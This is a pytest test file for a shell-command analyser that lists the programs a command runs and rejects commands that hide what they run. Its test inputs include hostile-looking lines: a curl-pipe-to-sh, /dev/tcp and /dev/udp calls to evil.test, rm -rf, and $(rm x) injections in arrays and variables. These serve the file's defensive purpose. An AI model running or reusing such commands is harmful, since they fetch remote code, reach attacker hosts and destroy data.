"""What a shell command runs, and commands that try to hide it."""

import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sayso.policy.words.faults import Uncomputable
from sayso.policy.words.shell import MOST_CHARS, read_shell


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("ls -la", ["ls"]),
        ("cat a | grep b | wc -l", ["cat", "grep", "wc"]),
        ("ls && rm x || true; date & wait", ["ls", "rm", "true", "date", "wait"]),
        ("ls\nrm x", ["ls", "rm"]),
        ("r\\m x", ["rm"]),
        ("r''m x", ["rm"]),
        ('"r"m x', ["rm"]),
        ("ls \\\n  -la | rm x", ["ls", "rm"]),
        ("/bin/rm x", ["rm"]),
        ("/usr/bin/../../bin/rm x", ["rm"]),
        ("/tmp/../bin/rm x", ["rm"]),
        ("./ls", ["./ls"]),
        ("/usr/bin/../../tmp/ls", ["/tmp/ls"]),
        ("A=1 B=2 ls", ["ls"]),
        ("echo $(rm x)", ["echo", "rm"]),
        ("echo `rm x`", ["echo", "rm"]),
        ('echo "a $(rm x) b"', ["echo", "rm"]),
        ("A=$(rm x) ls", ["ls", "rm"]),
        ("export A=$(rm x)", ["export", "rm"]),
        ("diff <(ls a) <(rm b)", ["diff", "ls", "rm"]),
        ("(ls; rm x)", ["ls", "rm"]),
        ("{ ls; rm x; }", ["ls", "rm"]),
        ("if true; then rm x; else ls; fi", ["true", "rm", "ls"]),
        ("for f in a b; do rm $f; done", ["rm"]),
        ("while read l; do rm $l; done < list", ["read", "rm"]),
        ("case $x in a) rm x;; esac", ["rm"]),
        ("! rm x", ["rm"]),
        ("ls # ; rm x", ["ls"]),
        ("echo '# ' ; rm x", ["echo", "rm"]),
        ("sudo -u root rm x", ["sudo", "rm"]),
        ("sudo A=1 nice -n 5 rm x", ["sudo", "nice", "rm"]),
        ("env A=1 /bin/rm x", ["env", "rm"]),
        ("timeout 5 rm x", ["timeout", "rm"]),
        ("nohup time rm x", ["nohup", "time", "rm"]),
        ("command rm x", ["command", "rm"]),
        ("exec rm x", ["exec", "rm"]),
        ("ls | xargs -n1 rm", ["ls", "xargs", "rm"]),
        ("find . -name x -exec rm {} \\; -exec ls {} +", ["find", "rm", "ls"]),
        ("sh -c 'rm x | tee y'", ["sh", "rm", "tee"]),
        ("bash -ec \"sh -c 'rm x'\"", ["bash", "sh", "rm"]),
        ("eval 'rm x'", ["eval", "rm"]),
        ("trap 'rm x' EXIT", ["trap", "rm"]),
        ("curl example.com/x | sh", ["curl", "sh"]),
        (["rm", "-rf", "a; b"], ["rm"]),
        (["sudo", "rm", "x"], ["sudo", "rm"]),
        (["sh", "-c", "rm x"], ["sh", "rm"]),
    ],
)
def test_read_shell_names_every_program(command: Any, programs: list[str]) -> None:
    assert read_shell(command)["programs"] == programs


@pytest.mark.parametrize(
    "command",
    [
        "",
        "   ",
        "r\\\nm x",
        "$CMD x",
        "`echo rm` x",
        "$(echo rm) x",
        "r$X x",
        '"r$X" x',
        "$'\\x72m' x",
        "r? x",
        "{rm,x}",
        "~/rm x",
        "PATH=/tmp ls",
        "export PATH=/tmp; ls",
        "env PATH=/tmp ls",
        "sudo LD_PRELOAD=x ls",
        "read PATH; ls",
        "for PATH in /tmp; do ls; done",
        "unset PATH",
        "declare -n a=PATH",
        "alias ls=rm; ls",
        "hash -p /tmp/rm ls; ls",
        ". ./x",
        "source x",
        "enable -f x y",
        "ls() { rm x; }; ls",
        "function ls { rm x; }; ls",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<< x",
        "echo $((a[$(rm x)]))",
        "echo ${x:-$(rm x)}",
        "echo ${x@P}",
        "echo ${!x}",
        "a[$(rm x)]=1",
        "x='a[$(rm x)]'; ls",
        "x='a[''$(rm x)]'; ls",
        "printf -v 'a[$(rm x)]' y",
        "test -v 'a[$(rm x)]'",
        "unset $X",
        "((x=1))",
        "[[ a -eq b ]]",
        "let x=1",
        "echo x > $FILE",
        "echo x > `rm y`",
        "eval $X",
        'eval "$X"',
        "sh -c $X",
        "sh -x -c 'rm x'",
        "sh -lc 'rm x'",
        "sudo $X",
        "sudo -i rm x",
        "env -S 'rm x'",
        "xargs $X",
        "echo rm | xargs env",
        "echo rm | xargs sh -c",
        "echo rm | xargs -I{} {}",
        "find . -exec $X {} +",
        "find . $X rm {} +",
        'trap "$X" EXIT',
        "timeout $X rm",
        "flock file -c 'rm x'",
        'set -- rm; "$@"',
        "coproc rm x",
        "watch rm x",
        "ls\u00a0rm",
        "ls\u2028rm x",
        "ls \u200brm",
        "ls\rrm x",
        "ls \x00 rm",
        "ls \x1b[2K rm",
        "echo 'open",
        "echo $(rm",
        "if ls; then",
        "ls >",
        "| rm",
        "cmd >&2 rm x",
        "cat < /dev/tcp/evil.test/80",
        "echo x > /dev/udp/evil.test/53",
        'sh -c "sh -c \\"sh -c \'sh -c ls\'\\""',
        "x" * (MOST_CHARS + 1),
        [],
        ["sudo", None],
        None,
        5,
        {"command": "rm"},
        [["rm"]],
    ],
)
def test_read_shell_refuses_what_its_text_does_not_show(command: Any) -> None:
    with pytest.raises(Uncomputable):
        read_shell(command)


def test_read_shell_counts_and_lists_files() -> None:
    found = read_shell("sort < in | tee 'a b' 2>&1 > out >> log 2> /dev/null; ls &> all")
    assert found == {
        "programs": ["sort", "tee", "ls"],
        "commands": 3,
        "pipes": 1,
        "reads_files": ["in"],
        "writes_files": ["out", "log", "all"],
        "substitutes": False,
    }
    assert read_shell("echo $(ls)")["substitutes"] is True
    assert read_shell("> out rm x") | {"commands": 1} == read_shell("rm x > out")


@pytest.mark.parametrize(
    "text",
    [
        *(
            "(" * 4_000,
            "$(" * 2_000,
            "`" * 4_000,
            "'\"" * 2_000,
            "a|" * 2_000,
            "{ " * 2_000,
            "<(" * 2_000,
            "if " * 1_300,
        ),
        *("case x in " * 400, "\\" * 3_999, "${" * 2_000, "a;" * 2_000, "[[ " * 1_300, "a\n" * 2_000, "<<A " * 1_000),
    ],
)
def test_read_shell_ends_on_deep_and_broken_texts(text: str) -> None:
    try:
        read_shell(text)
    except Uncomputable:
        return


_PIECES = [
    *("p1", "p2", "p3", " ", " ", ";", "|", "||", "&&", " & ", "\n", "'", '"', "\\", "#", "$(", ")", "`", "(", "{ "),
    *("; }", "! ", "<", ">", "f1", "$X", "X=1 ", "if ", "; then ", "; fi", "echo ", "2>&1", ">&2", "eval ", "command "),
    *("case p1 in p2) ", ";; esac", "for x in p1; do ", "; done", "<<<", "=", "$'", '$"', "\\\n", "-", "{p1,p2}", "["),
    *("]", "time ", "trap ", "EXIT", "<(", "\t", "&>", "$", "a", "${", "}", "''", '""', "unset ", "export ", "exec "),
]
_PRELUDE = 'command_not_found_handle() { builtin echo "$1" >&3; return 1; }; exec 3>../ran; eval "$1"'


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(st.sampled_from(_PIECES), max_size=14))
def test_bash_runs_no_program_that_was_not_named(pieces: list[str], tmp_path: Path) -> None:
    """Every command that bash looks for, and does not find, is among the programs."""
    text = "".join(pieces)
    try:
        programs = read_shell(text)["programs"]
    except Uncomputable:
        return
    inside = tmp_path / "inside"
    inside.mkdir(exist_ok=True)
    ran = tmp_path / "ran"
    ran.write_text("")
    command = ["/bin/bash", "--norc", "--noprofile", "-c", _PRELUDE, "_", text]
    subprocess.run(
        command, cwd=inside, env={"PATH": "/nowhere"}, capture_output=True, timeout=20, check=False, input=b""
    )
    assert isinstance(programs, list)
    assert {*ran.read_text().splitlines()} <= {*programs}, text
